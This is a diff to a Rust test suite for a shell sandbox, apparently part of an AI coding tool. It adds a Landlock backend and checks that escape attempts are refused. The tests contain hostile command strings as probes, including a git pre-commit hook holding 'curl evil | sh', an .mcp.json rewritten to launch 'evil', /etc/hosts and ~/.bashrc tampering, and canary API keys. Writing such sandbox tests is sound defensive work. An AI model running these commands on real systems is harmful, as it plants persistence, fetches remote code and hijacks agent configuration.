@@ -19,7 +19,9 @@ const CANARY_KEY: &str = "sk-ant-canary-3f9a1c";
 const SSH_KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY----- canary-7d41";
 
 fn base() -> PathBuf {
-    PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("sandbox-tests")
+    PathBuf::from(env!("CARGO_TARGET_TMPDIR"))
+        .join("sandbox-tests")
+        .join(module_path!().replace("::", "-"))
 }
 
 /// A fake home with secrets in it, and API keys in the host's environment; set once for the
@@ -44,6 +46,10 @@ fn setup() {
         }
         // SAFETY (edition 2021: safe fn): set before any test thread reads the environment.
         std::env::set_var("HOME", &home);
+        // The same corpus runs against the Landlock fallback from `sandbox_landlock.rs`.
+        if module_path!().starts_with("sandbox_landlock") {
+            std::env::set_var("TABWRIGHT_SANDBOX_BACKEND", "landlock");
+        }
         std::env::set_var("ANTHROPIC_API_KEY", CANARY_KEY);
         std::env::set_var("OPENAI_API_KEY", CANARY_KEY);
         std::env::set_var("GITHUB_TOKEN", CANARY_KEY);
@@ -123,6 +129,15 @@ impl Ws {
             .collect();
         assert_eq!(names.len(), 1, "something appeared outside: {names:?}");
     }
+}
+
+/// Whether the command's output shows a write was refused: a read-only mount (bubblewrap), a
+/// denied access (Landlock), or a write-protected path put back after the command (the
+/// Landlock fallback's guard).
+fn denied(out: &str) -> bool {
+    out.contains("Read-only file system")
+        || out.contains("Permission denied")
+        || out.contains("have been restored")
 }
 
 fn q(p: &Path) -> String {
@@ -290,7 +305,7 @@ async fn escape_write_outside_by_absolute_path() {
             q(&w.outside)
         ))
         .await;
-    assert!(out.contains("Read-only file system"), "{out}");
+    assert!(denied(&out), "{out}");
     w.unchanged_outside();
 }
 
@@ -298,10 +313,7 @@ async fn escape_write_outside_by_absolute_path() {
 async fn escape_write_outside_by_dotdot() {
     let w = ws();
     let out = w.sh("echo pwned > ../outside/file.txt; cd ..; echo pwned > outside/new; cd /; echo x > escape-root").await;
-    assert!(
-        out.contains("Read-only file system") || out.contains("ermission"),
-        "{out}"
-    );
+    assert!(denied(&out), "{out}");
     w.unchanged_outside();
     assert!(!Path::new("/escape-root").exists());
 }
@@ -312,7 +324,7 @@ async fn escape_write_home_and_system() {
     let out = w
         .sh("echo pwned >> ~/.bashrc; echo pwned > ~/new-file; echo '1.2.3.4 evil' >> /etc/hosts; touch /usr/local/bin/evil")
         .await;
-    assert!(out.contains("Read-only file system"), "{out}");
+    assert!(denied(&out), "{out}");
     assert_eq!(
         std::fs::read_to_string(home().join(".bashrc")).expect("bashrc"),
         "# the user's bashrc\n"
@@ -379,7 +391,7 @@ async fn escape_write_through_proc_self_root() {
             w.outside.display()
         ))
         .await;
-    assert!(out.contains("Read-only file system"), "{out}");
+    assert!(denied(&out), "{out}");
     w.unchanged_outside();
 }
 
@@ -392,7 +404,7 @@ async fn escape_symlink_out_then_write() {
             o = w.outside.display()
         ))
         .await;
-    assert!(out.contains("Read-only file system"), "{out}");
+    assert!(denied(&out), "{out}");
     w.unchanged_outside();
 }
 
@@ -609,7 +621,7 @@ async fn escape_git_hooks() {
     let out = w
         .sh("echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config; rm -rf .git/hooks")
         .await;
-    assert!(out.contains("Read-only file system"), "{out}");
+    assert!(denied(&out), "{out}");
     assert!(!w.dir.join(".git/hooks/pre-commit").exists());
     assert_eq!(
         std::fs::read_to_string(w.dir.join(".git/config")).expect("config"),
@@ -637,10 +649,7 @@ async fn escape_agent_settings() {
     let out = w
         .sh("echo '{\"mcpServers\":{\"x\":{\"command\":\"evil\"}}}' > .mcp.json; mkdir -p .claude && echo '{}' > .claude/settings.json; mkdir .vscode; echo '{}' > .vscode/tasks.json; echo x > .gitmodules")
         .await;
-    assert!(
-        out.contains("Read-only file system") || out.contains("ermission"),
-        "{out}"
-    );
+    assert!(denied(&out), "{out}");
     for p in [
         ".mcp.json",
         ".claude",
@@ -663,10 +672,7 @@ async fn escape_existing_mcp_json_rewrite() {
     let out = w
         .sh("echo evil > .mcp.json; rm -f .mcp.json; mv .mcp.json x.json; echo evil > pkg/.vscode/tasks.json")
         .await;
-    assert!(
-        out.contains("Read-only file system") || out.contains("busy"),
-        "{out}"
-    );
+    assert!(denied(&out) || out.contains("busy"), "{out}");
     assert_eq!(
         std::fs::read_to_string(w.dir.join(".mcp.json")).expect("kept"),
         "{}"
@@ -822,7 +828,7 @@ async fn escape_tmp_is_private() {
     std::fs::write(&host_tmp, "host tmp secret").expect("write");
     let out = w
         .sh(&format!(
-            "cat {}; ls /tmp; echo x > /tmp/mine && echo wrote-private-tmp",
+            "cat {}; ls /tmp; echo x > ${{TMPDIR:-/tmp}}/mine && echo wrote-private-tmp",
             q(&host_tmp)
         ))
         .await;
@@ -841,4 +847,32 @@ async fn escape_cwd_outside_is_not_kept() {
         out.contains(&w.dir.canonicalize().expect("ws").display().to_string()),
         "{out}"
     );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn control_the_intended_mechanism_confines_the_command() {
+    let w = ws();
+    let out = w
+        .sh("grep -E '^(Seccomp|NoNewPrivs|CapEff|CapBnd):' /proc/self/status; echo pid=$$")
+        .await;
+    // No capabilities left, whoever runs the host (root in CI), and no way to gain them.
+    assert!(out.contains("CapEff:\t0000000000000000"), "{out}");
+    assert!(out.contains("NoNewPrivs:\t1"), "{out}");
+    if module_path!().starts_with("sandbox_landlock") {
+        assert!(out.contains("CapBnd:\t0000000000000000"), "{out}");
+        // Landlock + seccomp: a filter on the process, the host's process table.
+        assert!(out.contains("Seccomp:\t2"), "{out}");
+        let bad = w
+            .sh("cat /tmp/.X11-unix 2>&1; ls /run 2>&1 | head -1")
+            .await;
+        assert!(bad.contains("Permission denied"), "{bad}");
+    } else {
+        // bubblewrap: a process namespace of its own (the shell is one of its first pids).
+        let pid: u32 = out
+            .split("pid=")
+            .nth(1)
+            .and_then(|p| p.trim().parse().ok())
+            .expect("pid");
+        assert!(pid < 10, "{out}");
+    }
 }
